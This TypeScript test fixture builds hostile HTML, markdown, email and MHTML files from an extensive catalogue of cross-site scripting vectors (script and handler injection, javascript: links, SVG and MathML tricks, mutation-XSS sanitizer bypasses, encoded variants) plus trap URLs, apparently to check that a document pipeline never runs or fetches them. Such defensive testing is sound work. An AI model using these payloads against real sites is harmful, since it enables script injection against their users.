import type { Files } from './corpus.ts';

/*
 * Vectors by families, after the OWASP Cross Site Scripting Prevention and Filter Evasion cheat sheets and what is
 * known of sanitizers that were got round by a second parsing (mXSS). Each would set `window.ran`, open a dialog or
 * ask `trap` for something if the page were ever given to a browser as a page.
 */
const vectors = (trap: string, run: string): Readonly<Record<string, string>> => ({
  scripts: `<script>${run}</script><SCRIPT SRC=${trap}/s.js></SCRIPT><scr<script>ipt>${run}</scr</script>ipt><script/x>${run}</script ><<script>${run}//<</script><script type=module>import '${trap}/m.js'</script><script xlink:href="data:text/javascript,${run}"></script>`,
  handlers: `<img src=x onerror=${run}><img src="${trap}/i.png" onload="${run}"><body onload=${run}><div onmouseover="${run}" onclick="${run}" onpointerenter="${run}">hover</div><input autofocus onfocus=${run}><details open ontoggle=${run}><summary>s</summary></details><video autoplay onloadstart=${run}><source src=${trap}/v.mp4 onerror=${run}></video><audio src=${trap}/a.mp3 autoplay oncanplay=${run}></audio><marquee onstart=${run}>m</marquee><select autofocus onfocus=${run}><option>o</select><x onanimationstart="${run}" style="animation:a 1s"></x><img/src=\`x\`onerror=${run}><IMG """><SCRIPT>${run}</SCRIPT>">`,
  addresses: `<a href="javascript:${run}">one</a><a href="JaVaScRiPt:${run}">two</a><a href="java&#x0A;script:${run}">three</a><a href="&#106;avascript&colon;${run}">four</a><a href="data:text/html,<script>${run}</script>">five</a><a href="vbscript:msgbox(1)">six</a><form action="javascript:${run}"><button formaction="javascript:${run}">seven</button></form><area href="javascript:${run}"><a ping="${trap}/ping" href="${trap}/link">eight</a>`,
  frames: `<iframe src="javascript:${run}"></iframe><iframe srcdoc="<script>parent.ran=1</script>"></iframe><iframe src="${trap}/frame"></iframe><object data="${trap}/object"></object><object data="data:text/html,<script>${run}</script>"></object><embed src="${trap}/embed.swf"><applet code="${trap}/a.class"></applet><frameset><frame src="${trap}/f"></frameset><portal src="${trap}/portal"></portal>`,
  pictures: `<img src="${trap}/1.png" srcset="${trap}/2.png 2x"><picture><source srcset="${trap}/3.webp"><img src="${trap}/4.png" loading=eager></picture><image src="${trap}/5.png"><input type=image src="${trap}/6.png"><video poster="${trap}/7.png"></video><table background="${trap}/8.png"><tr><td background="${trap}/9.png">cell</table><body background="${trap}/10.png">`,
  styles: `<style>@import '${trap}/s.css';body{background:url(${trap}/b.png)}@font-face{font-family:f;src:url(${trap}/f.woff)}*{font-family:f;display:none!important}</style><link rel=stylesheet href="${trap}/l.css"><link rel=preload as=image href="${trap}/p.png"><link rel=prefetch href="${trap}/pf"><link rel=dns-prefetch href="${trap}"><link rel=icon href="${trap}/icon.png"><p style="background:url('${trap}/inline.png');width:expression(${run})">styled</p><p style="list-style-image:url(${trap}/li.png);behavior:url(${trap}/b.htc);-moz-binding:url(${trap}/x.xml#x)">bound</p>`,
  head: `<meta http-equiv=refresh content="0;url=${trap}/refresh"><meta http-equiv=refresh content="0;url=javascript:${run}"><meta http-equiv=Set-Cookie content="a=b"><base href="${trap}/"><base target=_top><link rel=manifest href="${trap}/m.json"><title></title><script>${run}</script>`,
  drawings: `<svg onload=${run}><script>${run}</script><image href="${trap}/svg.png"/><use href="${trap}/u.svg#x"/><a xlink:href="javascript:${run}"><text>drawn</text></a><animate attributeName=href values="javascript:${run}" onbegin=${run} /><set attributeName=onmouseover to=${run} /><foreignObject><iframe src="${trap}/fo"></iframe></foreignObject></svg><math><maction actiontype="statusline#${trap}" xlink:href="javascript:${run}">formula</maction><mtext><script>${run}</script></mtext></math>`,
  mutations: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></mglyph></table></mtext></math><svg></p><style><a id="</style><img src=1 onerror=${run}>"><noscript><p title="</noscript><img src=x onerror=${run}>"><form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>"></style></svg></mglyph></mtext></math></form><listing>&lt;img onerror=${run} src=x&gt;</listing><textarea></p><img src=x onerror=${run}></textarea><xmp><p title="</xmp><img src=x onerror=${run}>"><noembed><img src=x onerror=${run}></noembed>`,
  templates: `<template><img src="${trap}/t.png" onerror=${run}><script>${run}</script></template><template shadowrootmode=open><script>${run}</script><img src=${trap}/shadow.png></template><slot onslotchange=${run}></slot><dialog open><img src=x onerror=${run}></dialog><noscript><img src="${trap}/n.png"></noscript><!--[if gte IE 4]><script>${run}</script><![endif]--><![CDATA[<script>${run}</script>]]><?xml-stylesheet href="javascript:${run}"?>`,
  encodings: `&#60;script&#62;${run}&#60;/script&#62; &lt;img src=x onerror=${run}&gt; &#x3c;svg/onload=${run}&#x3e; %3Cscript%3E${run}%3C/script%3E \\u003cscript\\u003e${run}\\u003c/script\\u003e +ADw-script+AD4-${run}+ADw-/script+AD4- <img src=x onerror=${run}> <script>${run}</script> ＜script＞${run}＜/script＞ \u202e<img src=x onerror=${run}>`,
});

/** The sentence that each page shows as its text. */
export const shown = (family: string) =>
  `The harbour office said on the matter of ${family} that nothing had moved, and that nobody would.`;

/** Files whose HTML would do harm in a browser, a file for each family and each way that HTML comes to a corpus. */
export function hostilePages(trap: string): { files: Files; families: string[] } {
  const run = 'window.ran=1;alert(1)'.replace(/;/g, '|');
  const all = vectors(trap, run);
  const page = (family: string, body: string) =>
    `<!DOCTYPE html><html><head><title>Harbour ${family}</title></head><body><article><h1>Harbour ${family}</h1><p>${shown(family)}</p>${body}<p>And so it went on, day after day, while the boats lay where they had always lain, the office added.</p></article></body></html>`;
  const files: Record<string, string> = {};
  for (const [family, body] of Object.entries(all)) files[`${family}.html`] = page(family, body);
  const mixed = ['scripts', 'handlers', 'pictures', 'drawings'].map((family) => all[family]).join('');
  files['markdown.md'] =
    `# Harbour markdown\n\n${shown('markdown')}\n\n[one](javascript:${run}) ![two](${trap}/md.png)\n\n${mixed}\n`;
  files['notes.txt'] = `Harbour notes\n\n${shown('notes')}\n\n${mixed}\n`;
  files['plaintext.html'] = page('plaintext', `<plaintext><script>${run}</script><img src=x onerror=${run}>`);
  const title = `<img src=x onerror=${run}><script>${run}</script>`.replace(/</g, '&lt;');
  files['title.html'] = page('title', '')
    .replace('<title>Harbour title', `<title>${title}`)
    .replace('<h1>', `<h1>${title} `);
  files['letter.eml'] =
    `From: a@quay.example\r\nTo: b@quay.example\r\nSubject: Harbour letter\r\nDate: Tue, 27 Feb 2018 09:00:00 +0900\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${page('letter', mixed)}`;
  files['archive.mhtml'] =
    `From: <Saved by Blink>\r\nSnapshot-Content-Location: ${trap}/archive\r\nSubject: Harbour archive\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; type="text/html"; boundary="b1"\r\n\r\n--b1\r\nContent-Type: text/html; charset=utf-8\r\nContent-Location: ${trap}/archive\r\n\r\n${page('archive', mixed)}\r\n--b1--\r\n`;
  return { files, families: [...Object.keys(all), 'markdown', 'notes', 'plaintext', 'letter', 'archive', 'title'] };
}
